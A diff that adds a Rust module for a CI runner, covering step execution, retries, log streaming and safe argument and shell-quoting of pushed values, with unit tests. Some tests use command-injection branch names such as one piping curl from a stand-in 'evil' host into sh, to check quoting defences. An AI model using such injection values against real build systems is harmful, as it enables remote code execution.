@@ -0,0 +1,689 @@
+use crate::database::joblog::JobLog;
+use crate::database::run::RunStep;
+use crate::database::DbConn;
+use crate::logging::runlog::RunLogs;
+use crate::parser::cancel::CancelToken;
+use crate::parser::context::{interpolate, interpolate_quoted, RunContext};
+use crate::parser::step::{self, OutputLine, StepOutcome, StepStatus, Stream};
+use crate::parser::{describe_env, merge_env, Workflow, WorkflowCommand};
+use crate::repo::Repo;
+use crate::util::parse_duration;
+use chrono::Local;
+use log::{error, info};
+use std::collections::BTreeMap;
+use std::fs::{self, File};
+use std::io::{BufWriter, Write};
+use std::path::Path;
+use std::time::Duration;
+use tokio::sync::mpsc::{self, Sender};
+use tokio::task::JoinHandle;
+
+// Delay before the first retry when a step sets `retries` without `retry_delay`
+const DEFAULT_RETRY_DELAY: Duration = Duration::from_secs(5);
+// Exponential backoff stops growing here, so a step with many retries cannot stall a run for days
+const MAX_RETRY_DELAY: Duration = Duration::from_secs(10 * 60);
+// Upper bound on `retries`; larger values are almost certainly a typo
+const MAX_RETRIES: u32 = 100;
+// Output lines are written to the job log in batches of this size, or sooner when output pauses
+const LOG_BATCH: usize = 200;
+const LOG_FLUSH: Duration = Duration::from_millis(500);
+
+// Handles shared by every step of one workflow run
+pub struct StepRunner {
+    pub db: DbConn,
+    pub repo: Repo,
+    pub run_id: Option<i64>,
+    pub host: String,
+    pub tx: Sender<String>,
+    // Send webhook notifications for failed steps
+    pub notify: bool,
+    // Full per-step log files, when the run keeps them
+    pub logs: Option<RunLogs>,
+    pub cancel: CancelToken,
+}
+
+// Per-step settings resolved from the step and workflow-level defaults
+pub(super) struct StepSettings {
+    timeout: Option<Duration>,
+    attempts: u32,
+    retry_delay: Duration,
+    exponential: bool,
+}
+
+impl StepRunner {
+    pub fn log(&self, idx: usize, level: &str, msg: &str) {
+        let mut log = JobLog {
+            id: 0,
+            repo: self.repo.path.clone(),
+            log_message: msg.to_string(),
+            logged_at: Local::now().to_rfc3339(),
+            branch: self.repo.target_branch.clone(),
+            run_id: self.run_id,
+            step_index: Some(idx as i64),
+            level: level.to_string(),
+        };
+        log.add_job_log(&self.db);
+    }
+
+    fn record(
+        &self,
+        idx: usize,
+        cmd: &WorkflowCommand,
+        outcome: Option<&StepOutcome>,
+        status: &str,
+        attempt: u32,
+    ) {
+        if let Some(id) = self.run_id {
+            let (code, ms) = outcome
+                .map(|o| (o.code, o.duration.as_millis() as i64))
+                .unwrap_or((None, 0));
+            let mut step = RunStep {
+                id: 0,
+                run_id: id,
+                step_index: idx as i64,
+                command: cmd.command_text(),
+                name: cmd.name.clone().unwrap_or_default(),
+                exit_code: code,
+                duration_ms: ms,
+                status: status.to_string(),
+                attempt: attempt as i64,
+            };
+            step.add_step(&self.db);
+        }
+    }
+
+    // Record a step that will not run; `cancelled` marks dependents of a failed step
+    pub fn skip(&self, idx: usize, cmd: &WorkflowCommand, cancelled: bool) {
+        let (msg, status, level) = if cancelled {
+            (
+                format!("⏭️ {} cancelled after failure", cmd.label(idx)),
+                "cancelled",
+                "warn",
+            )
+        } else {
+            (
+                format!(
+                    "⏭️ {} skipped (when = {})",
+                    cmd.label(idx),
+                    cmd.when.as_str()
+                ),
+                "skipped",
+                "info",
+            )
+        };
+        println!("{}", msg);
+        self.log(idx, level, &msg);
+        self.record(idx, cmd, None, status, 1);
+    }
+
+    // Record a step not started because the run was cancelled
+    pub fn skip_cancelled(&self, idx: usize, cmd: &WorkflowCommand, reason: &str) {
+        let msg = format!("⏭️ {} not started (run {})", cmd.label(idx), reason);
+        println!("{}", msg);
+        self.log(idx, "warn", &msg);
+        self.record(idx, cmd, None, "cancelled", 1);
+    }
+
+    // Record a step that could not be started because of its own configuration
+    async fn reject(&self, idx: usize, cmd: &WorkflowCommand, msg: String) -> Result<(), String> {
+        error!("{}", msg);
+        self.log(idx, "error", &msg);
+        self.record(idx, cmd, None, "error", 1);
+        if self.notify {
+            self.repo.send_webhook(msg.clone(), &self.repo).await;
+        }
+        Err(msg)
+    }
+
+    // Open a step's log file, starting each attempt of a retried step with a header
+    fn open_log(&self, idx: usize, attempt: u32, attempts: u32) -> Option<BufWriter<File>> {
+        let logs = self.logs.as_ref()?;
+        let mut file = match logs.append(idx) {
+            Ok(file) => BufWriter::new(file),
+            Err(e) => {
+                error!("unable to open log for step {} in {}: {}", idx, logs.dir().display(), e);
+                return None;
+            }
+        };
+        if attempts > 1 {
+            let _ = writeln!(file, "--- attempt {}/{} ---", attempt, attempts);
+        }
+        Some(file)
+    }
+
+    // Forward a step's output as it is produced: every line goes to the terminal, the job
+    // log, the step's log file and the run's channel, stdout and stderr interleaved in the
+    // order they were read
+    fn stream_output(
+        &self,
+        idx: usize,
+        mut file: Option<BufWriter<File>>,
+    ) -> (Sender<OutputLine>, JoinHandle<()>) {
+        let (sender, mut lines) = mpsc::channel::<OutputLine>(1024);
+        let (db, repo, tx) = (self.db.clone(), self.repo.clone(), self.tx.clone());
+        let run_id = self.run_id;
+        let handle = tokio::spawn(async move {
+            let mut pending: Vec<JobLog> = vec![];
+            // Flush the file along with the job log so readers of a live run see recent lines
+            let flush = |pending: &mut Vec<JobLog>, file: &mut Option<BufWriter<File>>| {
+                if !pending.is_empty() {
+                    JobLog::add_job_logs(&db, pending);
+                    pending.clear();
+                }
+                if let Some(f) = file.as_mut() {
+                    let _ = f.flush();
+                }
+            };
+            loop {
+                let next = if pending.is_empty() {
+                    lines.recv().await
+                } else {
+                    match tokio::time::timeout(LOG_FLUSH, lines.recv()).await {
+                        Ok(next) => next,
+                        Err(_) => {
+                            flush(&mut pending, &mut file);
+                            continue;
+                        }
+                    }
+                };
+                let Some(line) = next else {
+                    break;
+                };
+
+                let text = output_line(idx, &line);
+                let time = line.at.format("%H:%M:%S%.3f");
+                let stamped = format!("{} {}", time, text);
+                if let Some(f) = file.as_mut() {
+                    let _ = writeln!(f, "{} {} | {}", time, stream_name(&line), line.text);
+                }
+                match line.stream {
+                    Stream::Stdout => println!("{}", stamped),
+                    Stream::Stderr => eprintln!("{}", stamped),
+                }
+                let _ = tx.send(stamped).await;
+                // The job log feeds the search index, where escape codes would split words;
+                // the step's log file keeps the raw output
+                pending.push(JobLog {
+                    id: 0,
+                    repo: repo.path.clone(),
+                    log_message: strip_ansi_escapes::strip_str(&text),
+                    logged_at: line.at.to_rfc3339(),
+                    branch: repo.target_branch.clone(),
+                    run_id,
+                    step_index: Some(idx as i64),
+                    level: "info".to_string(),
+                });
+                if pending.len() >= LOG_BATCH {
+                    flush(&mut pending, &mut file);
+                }
+            }
+            flush(&mut pending, &mut file);
+        });
+        (sender, handle)
+    }
+
+    // Run one step, retrying as configured. Returns the run's error message on final failure.
+    pub async fn run_step(
+        &self,
+        idx: usize,
+        cmd: &WorkflowCommand,
+        workflow: &Workflow,
+        context: &RunContext,
+    ) -> Result<(), String> {
+        let step_desc = cmd.label(idx);
+        info!("Running {} in {}", step_desc, self.repo.work_dir);
+        println!("Running {} on {}", step_desc, self.host);
+
+        // Only user-defined variables are logged; the CI context is the same for every step
+        let user_env = merge_env(&workflow.env, &cmd.env);
+        let env_desc = describe_env(&user_env);
+        if !env_desc.is_empty() {
+            println!("  {}", env_desc);
+        }
+        let env = merge_env(&context.env(), &user_env);
+
+        let argv = match step_argv(idx, cmd, &env, &context.temp_dir) {
+            Ok(argv) => argv,
+            Err(e) => {
+                return self
+                    .reject(idx, cmd, format!("❌ {}: {}", step_desc, e))
+                    .await
+            }
+        };
+        let (program, args) = (&argv[0], &argv[1..]);
+
+        let settings = match step_settings(cmd, workflow) {
+            Ok(s) => s,
+            Err(e) => {
+                return self
+                    .reject(idx, cmd, format!("❌ {} has an {}", step_desc, e))
+                    .await
+            }
+        };
+
+        // Description, the command behind a named step, and env, shown under the status line
+        let mut details = String::new();
+        if let Some(description) = cmd.description.as_deref().filter(|d| !d.trim().is_empty()) {
+            details.push_str(&format!("{}\n", description.trim()));
+        }
+        if cmd.has_name() {
+            details.push_str(&format!("$ {}\n", cmd.command_text()));
+        }
+        if !env_desc.is_empty() {
+            details.push_str(&format!("{}\n", env_desc));
+        }
+
+        let mut attempt = 1;
+        loop {
+            let attempt_desc = if settings.attempts > 1 {
+                format!("{} (attempt {}/{})", step_desc, attempt, settings.attempts)
+            } else {
+                step_desc.clone()
+            };
+
+            let log_file = self.open_log(idx, attempt, settings.attempts);
+            let (lines, output) = self.stream_output(idx, log_file);
+            let outcome = step::execute(
+                program,
+                args,
+                &env,
+                &self.repo.work_dir,
+                settings.timeout,
+                Some(lines),
+                Some(&self.cancel),
+            )
+            .await;
+            let _ = output.await;
+            self.record(idx, cmd, Some(&outcome), outcome.status_str(), attempt);
+
+            let mut msg = step_message(&attempt_desc, &outcome, &details);
+            // A missing binary will not appear on retry
+            let cancelled = matches!(outcome.status, StepStatus::Cancelled(_));
+            let retry = !outcome.success()
+                && attempt < settings.attempts
+                && !cancelled
+                && !matches!(outcome.status, StepStatus::StartFailed(_));
+            let delay = retry_delay(&settings, attempt);
+            if retry {
+                msg = format!("{}\n↻ retrying in {:?}", msg, delay);
+            }
+
+            let status_line = msg.lines().next().unwrap_or("");
+            if !outcome.success() && !cancelled {
+                error!("{}", status_line);
+            }
+            println!("{}", status_line);
+            // Failures that are retried or allowed do not fail the run
+            let level = if outcome.success() {
+                "info"
+            } else if retry || cmd.continue_on_error || cancelled {
+                "warn"
+            } else {
+                "error"
+            };
+            self.log(idx, level, &msg);
+            // Best-effort channel message
+            let _ = self.tx.send(msg.clone()).await;
+
+            if outcome.success() {
+                return Ok(());
+            }
+            if retry {
+                println!("Retrying {} in {:?}", step_desc, delay);
+                tokio::select! {
+                    _ = tokio::time::sleep(delay) => {}
+                    reason = self.cancel.cancelled() => {
+                        return Err(format!("{} cancelled ({})", step_desc, reason));
+                    }
+                }
+                attempt += 1;
+                continue;
+            }
+
+            // A cancelled step did not fail; the run reports why it was stopped
+            if cmd.continue_on_error && !cancelled {
+                let note = format!("{} failed; continuing (continue_on_error)", step_desc);
+                println!("{}", note);
+                self.log(idx, "warn", &note);
+            } else if self.notify && !cancelled {
+                // Send webhook per-step only on final failure to reduce noise
+                self.repo.send_webhook(msg.clone(), &self.repo).await;
+            }
+            let attempts = if attempt > 1 {
+                format!(" after {} attempts", attempt)
+            } else {
+                String::new()
+            };
+            return Err(match &outcome.status {
+                StepStatus::TimedOut(limit) => {
+                    format!("{} timed out after {:?}{}", step_desc, limit, attempts)
+                }
+                StepStatus::StartFailed(e) => format!("{} failed to start: {}", step_desc, e),
+                StepStatus::Cancelled(reason) => format!("{} cancelled ({})", step_desc, reason),
+                _ => format!(
+                    "{} exited with code {:?}{}",
+                    step_desc, outcome.code, attempts
+                ),
+            });
+        }
+    }
+}
+
+// Resolve a step's argv. `run` is split into words like a POSIX shell would, or handed
+// to `shell -c` when a shell is set; `script` is written to the run's temp dir and
+// executed by `shell` (default `sh`). Values like ${BRANCH} come from whoever pushed, so
+// they are substituted inside words after splitting, or shell-quoted when a shell parses them.
+fn step_argv(
+    idx: usize,
+    cmd: &WorkflowCommand,
+    env: &BTreeMap<String, String>,
+    temp_dir: &Path,
+) -> Result<Vec<String>, String> {
+    let shell = match &cmd.shell {
+        Some(shell) => Some(
+            shlex::split(shell)
+                .filter(|argv| !argv.is_empty())
+                .ok_or_else(|| format!("invalid shell '{}'", shell))?,
+        ),
+        None => None,
+    };
+
+    if let Some(script) = &cmd.script {
+        if !cmd.run.trim().is_empty() {
+            return Err("set either `run` or `script`, not both".to_string());
+        }
+        if script.trim().is_empty() {
+            return Err("empty script".to_string());
+        }
+        let path = temp_dir.join(format!("step-{}.script", idx));
+        fs::create_dir_all(temp_dir)
+            .and_then(|_| fs::write(&path, interpolate_quoted(script, env)))
+            .map_err(|e| format!("unable to write script {}: {}", path.display(), e))?;
+        let mut argv = shell.unwrap_or_else(|| vec!["sh".to_string()]);
+        argv.push(path.to_string_lossy().to_string());
+        return Ok(argv);
+    }
+
+    if cmd.run.trim().is_empty() {
+        return Err("invalid empty command".to_string());
+    }
+    match shell {
+        Some(mut argv) => {
+            argv.push("-c".to_string());
+            argv.push(interpolate_quoted(&cmd.run, env));
+            Ok(argv)
+        }
+        None => shlex::split(&cmd.run)
+            .filter(|argv| !argv.is_empty())
+            .map(|words| words.iter().map(|word| interpolate(word, env)).collect())
+            .ok_or_else(|| format!("unbalanced quotes in '{}'", cmd.run)),
+    }
+}
+
+// Resolve timeout and retry settings, rejecting malformed values
+pub(super) fn step_settings(
+    cmd: &WorkflowCommand,
+    workflow: &Workflow,
+) -> Result<StepSettings, String> {
+    let timeout = match cmd.timeout.as_ref().or(workflow.timeout.as_ref()) {
+        Some(t) => Some(parse_duration(t).map_err(|e| format!("invalid timeout: {}", e))?),
+        None => None,
+    };
+    let retry_delay = match &cmd.retry_delay {
+        Some(d) => parse_duration(d).map_err(|e| format!("invalid retry_delay: {}", e))?,
+        None => DEFAULT_RETRY_DELAY,
+    };
+    let exponential = match cmd.retry_backoff.as_deref() {
+        None | Some("fixed") => false,
+        Some("exponential") => true,
+        Some(other) => {
+            return Err(format!(
+                "invalid retry_backoff '{}' (expected \"fixed\" or \"exponential\")",
+                other
+            ))
+        }
+    };
+    let retries = cmd.retries.unwrap_or(0);
+    if retries > MAX_RETRIES {
+        return Err(format!("invalid retries {} (at most {})", retries, MAX_RETRIES));
+    }
+    Ok(StepSettings {
+        timeout,
+        attempts: retries + 1,
+        retry_delay,
+        exponential,
+    })
+}
+
+fn stream_name(line: &OutputLine) -> &'static str {
+    match line.stream {
+        Stream::Stdout => "out",
+        Stream::Stderr => "err",
+    }
+}
+
+// "[step 2] out | text" for one line of output
+fn output_line(idx: usize, line: &OutputLine) -> String {
+    format!("[step {}] {} | {}", idx, stream_name(line), line.text)
+}
+
+// Delay before the retry following `attempt`; doubles per attempt with exponential backoff,
+// up to MAX_RETRY_DELAY (or the configured delay, if that is longer)
+fn retry_delay(settings: &StepSettings, attempt: u32) -> Duration {
+    if settings.exponential {
+        let cap = MAX_RETRY_DELAY.max(settings.retry_delay);
+        settings
+            .retry_delay
+            .checked_mul(2u32.saturating_pow(attempt - 1))
+            .map_or(cap, |delay| delay.min(cap))
+    } else {
+        settings.retry_delay
+    }
+}
+
+fn step_message(step_desc: &str, outcome: &StepOutcome, details: &str) -> String {
+    // The end of the output is what explains a failure; color codes are noise in notifications
+    let preview = |s: &str| -> String {
+        const LIM: usize = 4000; // keep logs reasonable
+        let s = strip_ansi_escapes::strip_str(s);
+        if s.len() > LIM {
+            let mut cut = s.len() - LIM;
+            while !s.is_char_boundary(cut) {
+                cut += 1;
+            }
+            format!("…{}", &s[cut..])
+        } else {
+            s
+        }
+    };
+
+    let dt = outcome.duration;
+    let code = outcome.code;
+    match &outcome.status {
+        StepStatus::Success => format!(
+            "✅ {} succeeded in {:.2?} (code {:?})\n{}stdout:\n{}",
+            step_desc,
+            dt,
+            code,
+            details,
+            preview(&outcome.stdout)
+        ),
+        StepStatus::Failed => format!(
+            "❌ {} failed in {:.2?} (code {:?})\n{}stdout:\n{}\nstderr:\n{}",
+            step_desc,
+            dt,
+            code,
+            details,
+            preview(&outcome.stdout),
+            preview(&outcome.stderr)
+        ),
+        StepStatus::TimedOut(limit) => format!(
+            "⏱️ {} timed out after {:.2?} (limit {:?}); process group terminated\n{}stdout:\n{}\nstderr:\n{}",
+            step_desc,
+            dt,
+            limit,
+            details,
+            preview(&outcome.stdout),
+            preview(&outcome.stderr)
+        ),
+        StepStatus::StartFailed(e) => format!(
+            "❌ {} failed to start in {:.2?}: {}",
+            step_desc, dt, e
+        ),
+        StepStatus::Cancelled(reason) => format!(
+            "⏹️ {} cancelled after {:.2?} ({}); process group terminated\n{}stdout:\n{}\nstderr:\n{}",
+            step_desc,
+            dt,
+            reason,
+            details,
+            preview(&outcome.stdout),
+            preview(&outcome.stderr)
+        ),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::database::SqliteConnection;
+
+    fn command(run: &str) -> WorkflowCommand {
+        WorkflowCommand {
+            run: run.to_string(),
+            script: None,
+            shell: None,
+            env: BTreeMap::new(),
+            timeout: None,
+            retries: None,
+            retry_delay: None,
+            retry_backoff: None,
+            continue_on_error: false,
+            when: Default::default(),
+            needs: None,
+            name: None,
+            description: None,
+        }
+    }
+
+    #[test]
+    fn test_step_argv_quoting() {
+        let env = BTreeMap::from([("MSG".to_string(), "fix bug".to_string())]);
+        let tmp = std::env::temp_dir();
+        assert_eq!(
+            step_argv(0, &command("git commit -m \"fix bug\""), &env, &tmp).unwrap(),
+            vec!["git", "commit", "-m", "fix bug"]
+        );
+        assert_eq!(
+            step_argv(0, &command("bash -lc 'make && make test'"), &env, &tmp).unwrap(),
+            vec!["bash", "-lc", "make && make test"]
+        );
+        // Interpolated values stay one word when quoted
+        assert_eq!(
+            step_argv(0, &command("echo \"${MSG}\""), &env, &tmp).unwrap(),
+            vec!["echo", "fix bug"]
+        );
+        assert!(step_argv(0, &command("echo \"oops"), &env, &tmp).is_err());
+        // A hostile branch name is one argument, never more words or quotes
+        let env = BTreeMap::from([(
+            "PHANTOM_CI_BRANCH".to_string(),
+            "main\" ;curl${IFS}evil|sh".to_string(),
+        )]);
+        assert_eq!(
+            step_argv(0, &command("git push origin ${BRANCH}"), &env, &tmp).unwrap(),
+            vec!["git", "push", "origin", "main\" ;curl${IFS}evil|sh"]
+        );
+        assert!(step_argv(0, &command("  "), &env, &tmp).is_err());
+    }
+
+    #[test]
+    fn test_step_argv_shell() {
+        let mut cmd = command("make && make test");
+        cmd.shell = Some("bash -e".to_string());
+        let argv = step_argv(0, &cmd, &BTreeMap::new(), &std::env::temp_dir()).unwrap();
+        assert_eq!(argv, vec!["bash", "-e", "-c", "make && make test"]);
+
+        // The shell sees the branch as a single quoted word and runs nothing from it
+        cmd.run = "printf %s ${BRANCH}".to_string();
+        cmd.shell = Some("sh".to_string());
+        let env = BTreeMap::from([(
+            "PHANTOM_CI_BRANCH".to_string(),
+            "main';echo pwned;'".to_string(),
+        )]);
+        let argv = step_argv(0, &cmd, &env, &std::env::temp_dir()).unwrap();
+        let out = std::process::Command::new(&argv[0]).args(&argv[1..]).output().unwrap();
+        assert_eq!(String::from_utf8_lossy(&out.stdout), "main';echo pwned;'");
+    }
+
+    #[test]
+    fn test_step_argv_script() {
+        let dir = std::env::temp_dir().join("phantom_ci-test-script");
+        let mut cmd = command("");
+        cmd.script = Some("set -e\necho ${BRANCH}\n".to_string());
+        let env = BTreeMap::from([("PHANTOM_CI_BRANCH".to_string(), "main".to_string())]);
+
+        let argv = step_argv(3, &cmd, &env, &dir).unwrap();
+        assert_eq!(argv[0], "sh");
+        assert_eq!(fs::read_to_string(&argv[1]).unwrap(), "set -e\necho main\n");
+        let hostile = BTreeMap::from([("PHANTOM_CI_BRANCH".to_string(), "a;b".to_string())]);
+        let argv = step_argv(3, &cmd, &hostile, &dir).unwrap();
+        assert_eq!(fs::read_to_string(&argv[1]).unwrap(), "set -e\necho 'a;b'\n");
+
+        cmd.shell = Some("bash".to_string());
+        assert_eq!(step_argv(3, &cmd, &env, &dir).unwrap()[0], "bash");
+
+        cmd.run = "echo".to_string();
+        assert!(step_argv(3, &cmd, &env, &dir).is_err());
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[tokio::test]
+    async fn test_stream_output_strips_color() {
+        let db = SqliteConnection::open_in_memory().unwrap().into_shared();
+        let (tx, _rx) = mpsc::channel(16);
+        let runner = StepRunner {
+            db: db.clone(),
+            repo: Repo {
+                path: "test/stream".into(),
+                target_branch: "main".into(),
+                ..Default::default()
+            },
+            run_id: Some(1),
+            host: "test".into(),
+            tx,
+            notify: false,
+            logs: None,
+            cancel: CancelToken::default(),
+        };
+        let (lines, handle) = runner.stream_output(0, None);
+        let text = "\x1b[1m\x1b[31merror[E0599]\x1b[0m: no method named `foo`".to_string();
+        let at = Local::now();
+        lines.send(OutputLine { stream: Stream::Stderr, text, at }).await.unwrap();
+        drop(lines);
+        handle.await.unwrap();
+
+        let hits = JobLog::search(&db, "error[E0599] method", None, None, 0, ("", "")).unwrap();
+        assert_eq!(hits.len(), 1);
+        assert_eq!(
+            hits[0].log.log_message,
+            "[step 0] err | error[E0599]: no method named `foo`"
+        );
+    }
+
+    #[test]
+    fn test_retry_delay() {
+        let mut settings = StepSettings {
+            timeout: None,
+            attempts: 4,
+            retry_delay: Duration::from_secs(2),
+            exponential: false,
+        };
+        assert_eq!(retry_delay(&settings, 1), Duration::from_secs(2));
+        assert_eq!(retry_delay(&settings, 3), Duration::from_secs(2));
+        settings.exponential = true;
+        assert_eq!(retry_delay(&settings, 1), Duration::from_secs(2));
+        assert_eq!(retry_delay(&settings, 2), Duration::from_secs(4));
+        assert_eq!(retry_delay(&settings, 3), Duration::from_secs(8));
+        assert_eq!(retry_delay(&settings, 12), MAX_RETRY_DELAY);
+        assert_eq!(retry_delay(&settings, 40), MAX_RETRY_DELAY);
+    }
+}